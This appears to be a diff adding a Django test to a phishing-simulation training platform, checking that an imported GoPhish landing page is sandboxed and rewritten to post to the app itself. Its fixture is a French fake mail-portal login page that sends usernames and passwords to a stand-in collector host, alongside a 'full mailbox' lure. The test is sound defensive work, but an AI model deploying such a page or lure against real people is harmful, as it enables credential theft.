@@ -139,3 +139,49 @@ def test_an_unknown_token_is_a_plain_404(recipient):
         assert person().get(reverse(name, args=["x" * 43])).status_code == 404
     assert person().post(reverse("phishing:report", args=["x" * 43])).status_code == 404
     assert not Event.objects.exists()
+
+
+IMPORTED_PAGE = """<html><head><style>body{font-family:sans-serif}</style></head><body>
+<h1>Portail de messagerie</h1>
+<script>document.title = "volé"</script>
+<form action="https://collecte.example/login" method="get" id="f">
+  <input name="username"><input type="password" name="password"><button>Connexion</button>
+</form></body></html>"""
+
+
+def test_an_imported_landing_page_is_sandboxed_and_posts_to_us_only(recipient):
+    from hygie.phishing.models import CustomLure
+
+    custom = CustomLure.objects.create(
+        organisation=recipient.simulation.organisation,
+        name="Importé de GoPhish",
+        sender_name="Messagerie",
+        subject="Votre boîte est pleine",
+        text="{{lien}}",
+        landing_title="Portail",
+        landing_fields=[
+            {"name": "username", "label": "username", "type": "text"},
+            {"name": "password", "label": "password", "type": "password"},
+        ],
+        landing_html=IMPORTED_PAGE,
+        teachable_title="C'était un exercice",
+        teachable_body="Une boîte pleine est un prétexte classique.",
+        source="gophish",
+    )
+    Recipient.objects.filter(pk=recipient.pk).update(lure=custom.key)
+    page = person().get(reverse("phishing:landing", args=[recipient.token]))
+    html = page.content.decode()
+    submit = reverse("phishing:submit", args=[recipient.token])
+    assert f'<form action="{submit}" method="post" id="f">' in html
+    assert "collecte.example" not in html
+    policy = page["Content-Security-Policy"]
+    assert policy.startswith("sandbox allow-forms;")  # no allow-scripts, no allow-same-origin
+    assert "default-src 'none'" in policy and f"form-action http://testserver{submit}" in policy
+
+    # The sandboxed page has no cookie, so no CSRF token: the post is accepted on the token.
+    poster = Client(enforce_csrf_checks=True, HTTP_USER_AGENT=BROWSER, REMOTE_ADDR="10.20.30.40")
+    answer = poster.post(submit, {"username": "jdupont", "password": TYPED_SECRET})
+    assert answer.status_code == 302
+    event = Event.objects.get(kind=EventKind.SUBMIT)
+    assert event.fields == ["password", "username"]
+    assert TYPED_SECRET not in serializers.serialize("json", Event.objects.all())
